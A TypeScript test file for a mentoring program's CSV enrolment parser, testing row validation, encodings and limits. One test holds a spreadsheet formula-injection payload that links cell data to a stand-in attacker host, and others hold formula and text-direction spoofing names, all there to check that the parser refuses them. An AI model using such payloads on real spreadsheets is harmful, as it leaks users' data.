import { mkdtemp, rm, truncate, writeFile } from 'node:fs/promises';
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import {
  ENROLMENT_COLUMNS,
  EnrolmentError,
  groupIntoRelationships,
  parseEnrolment,
  parseEnrolmentFile,
  readEnrolment,
  type PairRow,
} from '#use-cases/enrolment/read-enrolment';
import { exampleProgram } from '../support/cohort.ts';
import { runMentoring } from '../support/cli.ts';

const program = exampleProgram();
const EXAMPLE_CSV = readFileSync(new URL('../../examples/enrolment.csv', import.meta.url), 'utf8');
const FILE = 'cohort.csv';
const HEADER = ENROLMENT_COLUMNS.join(',');

type Column = (typeof ENROLMENT_COLUMNS)[number];
type Row = Partial<Record<Column, string>>;

/** A pair as a coordinator would type it; each test changes only what it is about. */
const pair = (n: number, change: Row = {}): Row => ({
  mentee_name: `Mentee ${n}`,
  mentee_email: `mentee${n}@example.org`,
  mentor_name: `Mentor ${n}`,
  mentor_email: `mentor${n}@example.org`,
  manager_name: 'Eva de Vries',
  manager_email: 'eva.devries@example.org',
  coordinator_name: 'Ingrid Solberg',
  coordinator_email: 'ingrid.solberg@example.org',
  competencies: 'delegation',
  time_zone: '',
  start_date: '',
  ...change,
});

/** A cell as a spreadsheet writes it: quoted when it holds a comma, a quote or a line end. */
const cellOf = (value: string): string => (/[",\r\n]|^\s/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);

/** `mentoring validate` on the example program and this enrolment file, as a coordinator runs it. */
const validate = (file: string) => runMentoring(['validate', '--program', 'examples/program.yaml', '--enrolment', file]);

const csv = (rows: Row[], eol = '\n'): string => [HEADER, ...rows.map((row) => ENROLMENT_COLUMNS.map((c) => cellOf(row[c] ?? '')).join(','))].join(eol) + eol;

/** The problems an EnrolmentError lists, or a failed test when the file is accepted. */
const problemsOf = (text: string): string[] => {
  try {
    parseEnrolment(text, program, FILE);
  } catch (error) {
    expect(error).toBeInstanceOf(EnrolmentError);
    const { problems, message, file } = error as EnrolmentError;
    expect(file).toBe(FILE);
    expect(message).toContain(`${FILE} cannot be enrolled; nothing was stored`);
    for (const problem of problems) expect(message).toContain(problem);
    return problems;
  }
  throw new Error('the file was accepted');
};

describe('the example enrolment file', () => {
  test('gives five pairs and a circle of three, each with their people, competencies, time zone and the program start date', () => {
    const rows = parseEnrolment(EXAMPLE_CSV, program, 'examples/enrolment.csv');
    expect(rows).toHaveLength(8);
    expect(rows.map((r) => r.row)).toEqual([2, 3, 4, 5, 6, 7, 8, 9]);
    expect(rows.slice(5).map((r) => [r.mentee.name, r.mentor.name, r.circle])).toEqual([
      ['Dewi Lestari', 'Henrik Lund', 'New managers circle'],
      ['Matteo Ricci', 'Henrik Lund', 'New managers circle'],
      ['Agnieszka Zielinska', 'Henrik Lund', 'New managers circle'],
    ]);
    expect(rows[0]).toEqual<PairRow>({
      row: 2,
      mentee: { name: 'Sari Wibowo', email: 'sari.wibowo@example.org', locale: 'id', timeZone: 'Europe/Amsterdam' },
      mentor: { name: 'Marco Bianchi', email: 'marco.bianchi@example.org', locale: 'it', timeZone: 'Europe/Rome' },
      manager: { name: 'Eva de Vries', email: 'eva.devries@example.org', locale: 'nl', timeZone: 'Europe/Amsterdam' },
      coordinator: { name: 'Ingrid Solberg', email: 'ingrid.solberg@example.org', locale: 'nb', timeZone: 'Europe/Oslo' },
      competencies: ['stakeholder-management', 'giving-feedback'],
      timeZone: 'Europe/Amsterdam',
      startDate: '2027-01-11',
    });
    // Each pair meets in the mentee's zone; the circle in the zone its rows give.
    expect(rows.map((r) => r.timeZone)).toEqual([
      'Europe/Amsterdam',
      'Europe/Warsaw',
      'Europe/Rome',
      'Asia/Jakarta',
      'Europe/Oslo',
      'Europe/Oslo',
      'Europe/Oslo',
      'Europe/Oslo',
    ]);
    const everyone = rows.flatMap((r) => [r.mentee, r.mentor, r.manager, r.coordinator]);
    expect(new Set(everyone.map((p) => p.locale))).toEqual(new Set(['en', 'id', 'it', 'pl', 'nl', 'nb']));
    expect(new Set(everyone.map((p) => p.timeZone))).toEqual(
      new Set(['Europe/Amsterdam', 'Europe/Rome', 'Europe/Oslo', 'Europe/Warsaw', 'Europe/London', 'Asia/Jakarta']),
    );
    // Budi meets a mentor in his own zone and language; outside the circle each mentor has one mentee.
    expect(rows[3]!.mentor).toEqual({ name: 'Rina Kusuma', email: 'rina.kusuma@example.org', locale: 'id', timeZone: 'Asia/Jakarta' });
    expect(rows.slice(0, 5).map((r) => r.mentor.name)).toEqual(['Marco Bianchi', 'Anneke Jansen', 'Lars Hansen', 'Rina Kusuma', 'Femke Bakker']);
    // A line manager of several: Eva manages three mentees.
    expect(rows.filter((r) => r.manager.email === 'eva.devries@example.org').map((r) => r.mentee.name)).toEqual(['Sari Wibowo', 'Tomasz Nowak', 'Kari Nilsen']);
  });

  test('readEnrolment reads the same from disk, and names a file that is not there', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mentoring-enrolment-'));
    try {
      const file = join(dir, 'cohort.csv');
      await writeFile(file, EXAMPLE_CSV, 'utf8');
      expect(await readEnrolment(file, program)).toEqual(parseEnrolment(EXAMPLE_CSV, program, file));
      const missing = join(dir, 'missing.csv');
      await expect(readEnrolment(missing, program)).rejects.toMatchObject({ name: 'EnrolmentError', file: missing, problems: ['cannot be read (ENOENT)'] });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('each mistake in a row is refused, naming the row and the reason', () => {
  test('a malformed e-mail address', () => {
    expect(problemsOf(csv([pair(1), pair(2, { mentor_email: 'mentor2.example.org' })]))).toEqual([
      'row 3: mentor_email "mentor2.example.org" is not an e-mail address',
    ]);
  });

  test('a missing e-mail address or name', () => {
    expect(problemsOf(csv([pair(1, { manager_email: '' }), pair(2, { coordinator_name: ' ' })]))).toEqual([
      'row 2: manager_email is empty',
      'row 3: coordinator_name is empty',
    ]);
  });

  test('a mentee enrolled twice names both rows', () => {
    expect(problemsOf(csv([pair(1), pair(2), pair(3, { mentee_name: 'Mentee 1', mentee_email: 'MENTEE1@example.org' })]))).toEqual([
      'row 4: mentee mentee1@example.org is already enrolled in row 2',
    ]);
  });

  test('one address with two different names: one address is one person', () => {
    expect(problemsOf(csv([pair(1), pair(2, { coordinator_name: 'Ingrid Solberg-Hansen' })]))).toEqual([
      'row 3: ingrid.solberg@example.org is "Ingrid Solberg-Hansen" here but "Ingrid Solberg" in row 2; one address is one person',
    ]);
  });

  test('a mentee who is their own mentor', () => {
    expect(problemsOf(csv([pair(1, { mentor_name: 'Mentee 1', mentor_email: 'mentee1@example.org' })]))).toEqual([
      'row 2: the mentee cannot be their own mentor (mentee1@example.org)',
    ]);
  });

  test("a mentor who is the mentee's line manager (meetings would not stay confidential)", () => {
    const problems = problemsOf(csv([pair(1), pair(2, { mentor_name: 'Eva de Vries', mentor_email: 'eva.devries@example.org' })]));
    expect(problems).toEqual([
      "row 3: the mentor is also the mentee's line manager (eva.devries@example.org); choose a mentor outside the reporting line so meetings stay confidential",
    ]);
  });

  test('a mentee who is their own line manager', () => {
    expect(problemsOf(csv([pair(1, { manager_name: 'Mentee 1', manager_email: 'mentee1@example.org' })]))).toEqual([
      'row 2: the mentee cannot be their own line manager (mentee1@example.org)',
    ]);
  });

  test("a competency that is not the program's lists the ones it knows", () => {
    expect(problemsOf(csv([pair(1, { competencies: 'delegation; public-speaking' })]))).toEqual([
      `row 2: competency "public-speaking" is not one of the program's (stakeholder-management, giving-feedback, strategic-thinking, delegation)`,
    ]);
    expect(problemsOf(csv([pair(1, { competencies: ' ; ' })]))).toEqual(["row 2: competencies is empty; name at least one of the program's competencies"]);
  });

  test('an unknown time zone', () => {
    expect(problemsOf(csv([pair(1, { time_zone: 'Europe/Atlantis' })]))).toEqual([
      'row 2: time_zone "Europe/Atlantis" is not a known IANA time zone (for example Europe/Amsterdam)',
    ]);
  });

  test.each(['2027-02-30', '11/01/2027', '2027-1-11'])('a start date of %s', (startDate) => {
    expect(problemsOf(csv([pair(1, { start_date: startDate })]))).toEqual([`row 2: start_date "${startDate}" is not a date (YYYY-MM-DD)`]);
  });

  test('several problems in several rows are all reported at once, in row order', () => {
    const problems = problemsOf(
      csv([
        pair(1, { mentee_email: 'not-an-address' }),
        pair(2),
        pair(3, { time_zone: 'Mars/Olympus', start_date: 'soon' }),
        pair(4, { mentee_email: 'mentee2@example.org', mentee_name: 'Mentee 2', competencies: 'juggling' }),
      ]),
    );
    expect(problems).toEqual([
      'row 2: mentee_email "not-an-address" is not an e-mail address',
      'row 4: time_zone "Mars/Olympus" is not a known IANA time zone (for example Europe/Amsterdam)',
      'row 4: start_date "soon" is not a date (YYYY-MM-DD)',
      'row 5: mentee mentee2@example.org is already enrolled in row 3',
      `row 5: competency "juggling" is not one of the program's (stakeholder-management, giving-feedback, strategic-thinking, delegation)`,
    ]);
  });

  // A hand-edited file often has a blank line; "row N" must still be the row the coordinator sees.
  test('a blank line before a bad row does not shift the row number reported', () => {
    const text = [HEADER, csv([pair(1)]).split('\n')[1], '', csv([pair(2, { competencies: 'juggling' })]).split('\n')[1]].join('\n');
    // The bad pair is on line 4 of the file; it is reported as "row 3".
    expect(problemsOf(text)).toEqual([expect.stringMatching(/^row 4: competency "juggling"/)]);
  });
});

describe('the shape of the file', () => {
  test('a missing column is named', () => {
    const text = EXAMPLE_CSV.replace('mentor_email', 'mentor_mail');
    expect(problemsOf(text)).toEqual(['column mentor_email is missing', `column mentor_mail is not known (known columns: ${ENROLMENT_COLUMNS.join(', ')})`]);
  });

  test('an unknown column is named, with the known ones', () => {
    const text = csv([pair(1)])
      .replace(/\n/g, ',\n')
      .replace(`${HEADER},`, `${HEADER},department`);
    expect(problemsOf(text)).toEqual([`column department is not known (known columns: ${ENROLMENT_COLUMNS.join(', ')})`]);
  });

  test('time zone and start date columns may be left out altogether', () => {
    const required = ENROLMENT_COLUMNS.filter((c) => c !== 'time_zone' && c !== 'start_date');
    const text = [required.join(','), required.map((c) => pair(1)[c]).join(',')].join('\n');
    expect(parseEnrolment(text, program, FILE)).toMatchObject([{ row: 2, timeZone: 'Europe/Amsterdam', startDate: '2027-01-11' }]);
  });

  test('an empty file, or a header without pairs, has no pairs', () => {
    for (const text of ['', '\n', `${HEADER}\n`]) expect(problemsOf(text)).toEqual(['has no pairs (a header row and at least one pair are needed)']);
  });

  test('a row with a cell too many is refused as CSV, naming its line', () => {
    const text = csv([pair(1)]).replace(/\n$/, ',extra\n');
    expect(problemsOf(text)).toEqual([expect.stringMatching(/^is not valid CSV: .*line 2/)]);
  });

  test('a file saved by a spreadsheet (byte order mark, CRLF line ends, capitalised headers) is read the same', () => {
    const plain = parseEnrolment(csv([pair(1), pair(2)]), program, FILE);
    const fromExcel = `\uFEFF${csv([pair(1), pair(2)], '\r\n').replace('mentee_name,mentee_email', 'Mentee_Name , MENTEE_EMAIL')}`;
    expect(parseEnrolment(fromExcel, program, FILE)).toEqual(plain);
    expect(parseEnrolment(`\uFEFF${EXAMPLE_CSV.replace(/\n/g, '\r\n')}`, program, FILE)).toEqual(parseEnrolment(EXAMPLE_CSV, program, FILE));
  });

  test('empty time zone and start date cells take the program’s; filled ones are kept; cells and addresses are tidied', () => {
    const rows = parseEnrolment(
      csv([
        pair(1),
        pair(2, { time_zone: 'America/Sao_Paulo', start_date: '2027-02-01' }),
        pair(3, { mentee_email: ' Mentee3@Example.ORG ', competencies: ' delegation ;giving-feedback; ' }),
      ]),
      program,
      FILE,
    );
    expect(rows.map(({ timeZone, startDate }) => [timeZone, startDate])).toEqual([
      ['Europe/Amsterdam', '2027-01-11'],
      ['America/Sao_Paulo', '2027-02-01'],
      ['Europe/Amsterdam', '2027-01-11'],
    ]);
    expect(rows[2]!.mentee.email).toBe('mentee3@example.org');
    expect(rows[2]!.competencies).toEqual(['delegation', 'giving-feedback']);
  });
});

describe("each person's own language and time zone", () => {
  test('a person takes their own language and zone from any row that gives them; the others take the program’s, a mentee the row’s zone', () => {
    const rows = parseEnrolment(
      csv([
        pair(1, { mentee_locale: 'pl', mentee_time_zone: 'Europe/Warsaw', manager_locale: 'nl' }),
        pair(2, { time_zone: 'Asia/Jakarta', mentor_locale: 'id', mentor_time_zone: 'Asia/Jakarta' }),
        pair(3, { mentor_email: 'mentor2@example.org', mentor_name: 'Mentor 2' }),
      ]),
      program,
      FILE,
    );
    const settings = (p: { locale: string; timeZone: string }) => `${p.locale} ${p.timeZone}`;
    expect(rows.map((r) => [settings(r.mentee), settings(r.mentor), settings(r.manager), r.timeZone])).toEqual([
      // Meetings are planned in the mentee's own zone when the row gives none.
      ['pl Europe/Warsaw', 'en Europe/Amsterdam', 'nl Europe/Amsterdam', 'Europe/Warsaw'],
      ['en Asia/Jakarta', 'id Asia/Jakarta', 'nl Europe/Amsterdam', 'Asia/Jakarta'],
      // The mentor of row 3 is row 2's: their own settings follow them.
      ['en Europe/Amsterdam', 'id Asia/Jakarta', 'nl Europe/Amsterdam', 'Europe/Amsterdam'],
    ]);
  });

  test('an unknown language or zone, and one person given two, are named with their rows', () => {
    expect(
      problemsOf(
        csv([pair(1, { mentee_locale: 'fr', coordinator_time_zone: 'Europe/Atlantis' }), pair(2, { manager_locale: 'nl' }), pair(3, { manager_locale: 'pl' })]),
      ),
    ).toEqual([
      'row 2: mentee_locale "fr" is not one of the languages (en (English), id (Indonesian), it (Italian), pl (Polish), nl (Dutch), nb (Norwegian Bokmål))',
      'row 2: coordinator_time_zone "Europe/Atlantis" is not a known IANA time zone (for example Asia/Jakarta)',
      'row 4: manager_locale of eva.devries@example.org is "pl" here but "nl" in row 3; one person has one locale',
    ]);
  });

  test("a program in another language: everyone without their own takes the program's", () => {
    const rows = parseEnrolment(csv([pair(1, { mentor_locale: 'en' })]), { ...program, locale: 'nb' }, FILE);
    expect([rows[0]!.mentee.locale, rows[0]!.mentor.locale, rows[0]!.coordinator.locale]).toEqual(['nb', 'en', 'nb']);
  });
});

describe('what a cell may hold: names a person would write, nothing that reads or runs otherwise', () => {
  test('a name of 102,400 characters is refused by its length, and never echoed back', () => {
    const problems = problemsOf(csv([pair(1), pair(2, { mentee_name: 'x'.repeat(102_400) })]));
    expect(problems).toEqual(['row 3: mentee_name is 102,400 characters long; at most 100']);
  });

  test.each([
    ['mentee_name', 100],
    ['mentor_name', 100],
    ['manager_name', 100],
    ['coordinator_name', 100],
    ['circle', 100],
    ['competencies', 1_000],
    ['time_zone', 64],
    ['start_date', 32],
  ] as const)('%s holds at most %i characters', (column, limit) => {
    expect(problemsOf(csv([pair(1, { [column]: 'a'.repeat(limit + 1) })]))).toEqual([
      `row 2: ${column} is ${(limit + 1).toLocaleString('en')} characters long; at most ${limit.toLocaleString('en')}`,
    ]);
  });

  test('an e-mail address holds at most 254 characters, as SMTP carries', () => {
    const longest = `${'m'.repeat(64)}@${'d'.repeat(63)}.${'e'.repeat(63)}.${'x'.repeat(57)}.org`;
    expect(longest).toHaveLength(254);
    expect(parseEnrolment(csv([pair(1, { mentee_email: longest })]), program, FILE)[0]!.mentee.email).toBe(longest);
    expect(problemsOf(csv([pair(1, { mentee_email: `a${longest}` })]))).toEqual(['row 2: mentee_email is 255 characters long; at most 254']);
  });

  test('a name of exactly 100 characters, and names from around the world, are taken as written', () => {
    const names = ['a'.repeat(100), 'Zoë Ødegård-Łukasiewicz', "Siobhán O'Brien", '李小龙', 'محمد بن سلمان', 'Anne-Marie @ Sales', 'Ngũgĩ wa Thiong’o 🌍'];
    const rows = parseEnrolment(csv(names.map((name, i) => pair(i + 1, { mentee_name: name }))), program, FILE);
    expect(rows.map((r) => r.mentee.name)).toEqual(names);
  });

  test('a name a spreadsheet would run as a formula is refused, showing only its start', () => {
    expect(problemsOf(csv([pair(1), pair(2), pair(3, { mentor_name: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")' })]))).toEqual([
      'row 4: mentor_name "=HYPERLINK("http://a…" starts with "=", which a spreadsheet would run as a formula; remove it',
    ]);
  });

  test.each([
    ['+1+1', '"+"'],
    ['-2+3', '"-"'],
    ['@SUM(A1:A9)', '"@"'],
    ['  =1+1', '"="'],
    ['\t=1+1', 'a tab'],
    ['\r=1+1', 'a carriage return'],
  ])('a name that starts with %j', (name, start) => {
    const [problem, ...others] = problemsOf(csv([pair(1, { manager_name: name })]));
    expect(others).toEqual([]);
    // A line end inside a cell makes the row's number that of the line it ends on, as an editor counts.
    expect(problem).toMatch(/^row \d: manager_name ".+" starts with /);
    expect(problem).toContain(` starts with ${start}, which a spreadsheet would run as a formula; remove it`);
  });

  test('a circle whose name would run as a formula is refused too', () => {
    expect(problemsOf(csv([pair(1, { circle: '@cmd' })]))).toEqual([
      'row 2: circle "@cmd" starts with "@", which a spreadsheet would run as a formula; remove it',
    ]);
  });

  test.each([
    ['a bell', 'Eva\u0007', 'a control character (U+0007) at character 4'],
    ['a NUL', 'Eva\u0000de Vries', 'a control character (U+0000) at character 4'],
    ['a C1 control', 'Eva\u0085', 'a control character (U+0085) at character 4'],
    ['a line break inside a quoted cell', 'Eva\nde Vries', 'a control character (U+000A) at character 4'],
    ['a right-to-left override', 'Eva\u202Eexe.txt', 'a text-direction override (U+202E) at character 4'],
    ['a first-strong isolate', '\u2068Eva', 'a text-direction override (U+2068) at character 1'],
  ])('a name holding %s', (_, name, what) => {
    const why = what.includes('direction') ? ', which makes it read otherwise than it is stored' : '';
    // The line break ends the row on line 3; the row is named by the line it ends on.
    expect(problemsOf(csv([pair(1, { manager_name: name })]))).toEqual([expect.stringMatching(/^row [23]: /)]);
    expect(problemsOf(csv([pair(1, { manager_name: name })]))[0]!.replace(/^row \d: /, '')).toBe(`manager_name contains ${what}${why}; remove it`);
  });

  test('a refused cell is reported once, not again as empty, mismatched or malformed', () => {
    const problems = problemsOf(csv([pair(1), pair(2, { coordinator_name: '=Ingrid', competencies: 'x'.repeat(5_000), time_zone: 'Europe/\u0000' })]));
    expect(problems).toEqual([
      'row 3: coordinator_name "=Ingrid" starts with "=", which a spreadsheet would run as a formula; remove it',
      'row 3: competencies is 5,000 characters long; at most 1,000',
      'row 3: time_zone contains a control character (U+0000) at character 8; remove it',
    ]);
  });

  test('thousands of mistakes: the message lists the first ones and counts the rest', () => {
    const rows = Array.from({ length: 5_000 }, (_, i) => pair(i + 1, { competencies: 'juggling' }));
    let error: EnrolmentError | undefined;
    try {
      parseEnrolment(csv(rows), program, FILE);
    } catch (e) {
      error = e as EnrolmentError;
    }
    expect(error).toBeInstanceOf(EnrolmentError);
    expect(error!.problems).toHaveLength(5_000);
    expect(error!.message.length).toBeLessThanOrEqual(4_100);
    expect(error!.message).toMatch(/^ {2}- row 2: competency "juggling"/m);
    expect(error!.message).toMatch(/\n {2}… and 4,9\d\d more problems; fix these and check the file again$/);
  });

  test('a header of unknown columns names each in part, and a column named twice is refused', () => {
    const header = `${HEADER},${'x'.repeat(10_000)}`;
    expect(problemsOf(`${header}\n${csv([pair(1)]).split('\n')[1]},\n`)).toEqual([
      `column ${'x'.repeat(40)}… is not known (known columns: ${ENROLMENT_COLUMNS.join(', ')})`,
    ]);
    expect(problemsOf(csv([pair(1)]).replace('circle', 'mentee_email'))).toEqual(['column mentee_email is there twice; keep one']);
  });
});

describe('a file that is not CSV text is refused once, naming the line, and its bytes are never shown', () => {
  const SAVE = 'save the sheet as CSV UTF-8';
  const problemsOfBytes = (bytes: Uint8Array): string[] => {
    try {
      parseEnrolmentFile(bytes, program, FILE);
    } catch (error) {
      expect(error).toBeInstanceOf(EnrolmentError);
      // eslint-disable-next-line no-control-regex -- a message never holds a raw control byte
      expect((error as EnrolmentError).message).not.toMatch(/[\u0000-\u0008\u000E-\u001F\uFFFD]/);
      return (error as EnrolmentError).problems;
    }
    throw new Error('the file was accepted');
  };

  test('a NUL byte in a row', () => {
    expect(problemsOfBytes(Buffer.from(csv([pair(1), pair(2, { mentee_name: 'Ada\u0000' })])))).toEqual([`line 3: contains binary data (byte 0x00); ${SAVE}`]);
  });

  test('a workbook saved under a .csv name', () => {
    const workbook = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00]);
    expect(problemsOfBytes(workbook)).toEqual([`line 1: contains binary data (byte 0x00); ${SAVE}`]);
  });

  test('a sheet exported as Latin-1', () => {
    expect(problemsOfBytes(Buffer.from(csv([pair(1), pair(2, { mentor_name: 'Zoë Ødegård' })]), 'latin1'))).toEqual([
      `line 3: is not UTF-8 text (byte 0xEB); ${SAVE}`,
    ]);
  });

  test('a sheet saved as UTF-16, with or without a byte order mark', () => {
    const text = csv([pair(1)]);
    expect(problemsOfBytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))).toEqual([
      `line 1: is saved as UTF-16 (it starts with bytes 0xFF 0xFE); ${SAVE}`,
    ]);
    expect(problemsOfBytes(Buffer.from(text, 'utf16le'))).toEqual([`line 1: contains binary data (byte 0x00); ${SAVE}`]);
  });

  test.each([
    ['an overlong slash', [0xc0, 0xaf]],
    ['a lone continuation byte', [0x80]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['a code point past U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
    ['a sequence cut short at the end', [0xe2, 0x82]],
  ])('%s is not UTF-8', (_, bytes) => {
    const text = Buffer.from(csv([pair(1)]).replace('Mentee 1', 'Mentee #'));
    const at = text.indexOf('#');
    const bad = Buffer.concat([text.subarray(0, at), Buffer.from(bytes), text.subarray(at + 1)]);
    expect(problemsOfBytes(bad)).toEqual([`line 2: is not UTF-8 text (byte 0x${bytes[0]!.toString(16).toUpperCase()}); ${SAVE}`]);
  });

  test('UTF-8 with a byte order mark and names in any script is read as written', () => {
    const rows = parseEnrolmentFile(Buffer.from(`\uFEFF${csv([pair(1, { mentee_name: 'Łukasz 李 Ødegård 🌍' })])}`), program, FILE);
    expect(rows[0]!.mentee.name).toBe('Łukasz 李 Ødegård 🌍');
  });

  test('a file too large to be an enrolment is refused before it is read', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mentoring-enrolment-'));
    try {
      const file = join(dir, 'huge.csv');
      await writeFile(file, '');
      await truncate(file, 11 * 1_048_576);
      await expect(readEnrolment(file, program)).rejects.toMatchObject({ name: 'EnrolmentError', problems: ['is 11 MB; at most 10 MB is read'] });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  test('mentoring validate says what is wrong and exits 2, without a stack trace', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mentoring-enrolment-'));
    try {
      const file = join(dir, 'cohort.csv');
      await writeFile(file, Buffer.from(csv([pair(1), pair(2, { mentee_name: 'Ada\u0000' })])));
      const failed = await validate(file);
      expect(failed.code).toBe(2);
      expect(failed.err).toBe(`${file} cannot be enrolled; nothing was stored:\n  - line 3: contains binary data (byte 0x00); ${SAVE}\n`);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  test('mentoring validate counts a valid file as a coordinator does: relationships, pairs and circles, mentees', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mentoring-enrolment-'));
    const inCircle = (n: number, circle: string, mentor: number) =>
      pair(n, { circle, mentor_name: `Mentor ${mentor}`, mentor_email: `mentor${mentor}@example.org`, time_zone: 'Europe/Oslo' });
    try {
      const alone = join(dir, 'one-pair.csv');
      const mixed = join(dir, 'mixed.csv');
      await writeFile(alone, csv([pair(1)]));
      await writeFile(
        mixed,
        csv([
          pair(1),
          inCircle(2, 'Two', 20),
          inCircle(3, 'Two', 20),
          ...[4, 5, 6].map((n) => inCircle(n, 'Three', 40)),
          ...[7, 8, 9].map((n) => inCircle(n, 'Also three', 70)),
        ]),
      );
      const lastLine = async (file: string) => {
        const { code, out } = await validate(file);
        expect(code).toBe(0);
        return out.trimEnd().split('\n').at(-1);
      };
      const [example, one, several] = await Promise.all(['examples/enrolment.csv', alone, mixed].map(lastLine));
      expect(example).toBe('examples/enrolment.csv: 6 relationships (5 pairs and 1 circle of 3 mentees), 8 mentees, are valid.');
      expect(one).toBe(`${alone}: 1 pair is valid.`);
      expect(several).toBe(`${mixed}: 4 relationships (1 pair, 1 circle of 2 mentees and 2 circles of 3 mentees), 9 mentees, are valid.`);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('a large cohort', () => {
  test('10,000 pairs, with circles and time zones among them, are all valid and group into their relationships', () => {
    const zones = ['', 'Europe/Oslo', 'Asia/Jakarta', 'America/Sao_Paulo'];
    // Every tenth block of ten rows is a circle of three around one mentor; the rest are pairs.
    const rows = Array.from({ length: 10_000 }, (_, i) => {
      const block = Math.floor(i / 10);
      const inCircle = i % 10 < 3;
      return pair(i + 1, {
        ...(inCircle ? { mentor_name: `Mentor ${block}`, mentor_email: `circle-mentor${block}@example.org`, circle: `Circle ${block}` } : {}),
        manager_name: `Manager ${i % 50}`,
        manager_email: `manager${i % 50}@example.org`,
        competencies: 'delegation; giving-feedback',
        time_zone: zones[block % zones.length],
      });
    });
    const parsed = parseEnrolmentFile(Buffer.from(csv(rows)), program, FILE);
    expect(parsed).toHaveLength(10_000);
    expect(parsed.at(-1)).toMatchObject({ row: 10_001, mentee: { email: 'mentee10000@example.org' }, timeZone: 'America/Sao_Paulo' });
    const groups = groupIntoRelationships(parsed);
    expect(groups).toHaveLength(1_000 + 7_000);
    expect(groups.filter((g) => g.length === 3)).toHaveLength(1_000);
  });
});
